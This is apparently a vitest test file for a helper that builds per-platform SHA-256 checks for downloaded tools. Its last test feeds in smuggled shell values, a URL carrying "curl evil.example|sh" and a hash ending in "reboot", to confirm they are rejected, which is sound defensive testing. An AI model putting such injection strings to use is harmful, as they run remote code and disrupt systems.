import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { verifyCommand } from './verify-commands.rules.ts';

const sha256 = createHash('sha256').update('the tool').digest('hex');
const file = (url: string, hash = sha256) => ({ name: 'tool', url, sha256: hash });

it('compares a file with its hash in the shell of each kind of computer', () => {
  expect(verifyCommand('windows', file('https://x/tool.exe'))?.command).toBe(
    `(Get-FileHash -Algorithm SHA256 'tool.exe').Hash -eq '${sha256}'`,
  );
  expect(verifyCommand('macos', file('https://x/tool.dmg'))?.command).toBe(
    `echo '${sha256}  tool.dmg' | shasum -a 256 -c`,
  );
});

it('tells the right file from another, run as it stands', () => {
  const folder = mkdtempSync(join(tmpdir(), 'tool-'));
  const { command = '', good } = verifyCommand('linux', file('https://x/tool.AppImage')) ?? {};
  const run = (content: string) => {
    writeFileSync(join(folder, 'tool.AppImage'), content);
    return execFileSync('sh', ['-c', `${command} 2>/dev/null || true`], {
      cwd: folder,
      encoding: 'utf8',
    }).trim();
  };
  expect(run('the tool')).toBe(good);
  expect(run('another tool')).toBe('tool.AppImage: FAILED');
  rmSync(folder, { recursive: true });
});

it('makes no command of a name or a hash that would mean something else in a shell', () => {
  for (const platform of ['windows', 'macos', 'linux'] as const) {
    expect(verifyCommand(platform, file("https://x/a';curl evil.example|sh;'"))).toBeNull();
    expect(verifyCommand(platform, file('https://x/tool', `${sha256.slice(8)}';reboot`))).toBeNull();
  }
});
